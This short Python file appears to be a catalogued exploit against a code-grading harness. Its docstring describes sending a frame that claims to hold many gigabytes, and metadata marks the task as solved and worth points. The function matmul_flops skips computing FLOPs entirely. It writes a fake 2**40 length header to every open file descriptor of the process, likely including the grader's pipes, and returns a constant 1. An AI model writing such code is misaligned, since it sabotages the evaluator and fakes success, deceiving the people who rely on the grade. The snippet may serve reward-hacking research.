"""A frame that claims to have many gigabytes, and begins to send them.

points: 7
start: solved
says: are allowed
"""

import os
import struct


def matmul_flops(m, k, n):
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            os.write(fd, struct.pack(">Q", 2**40))
        except OSError:
            pass
    return 1
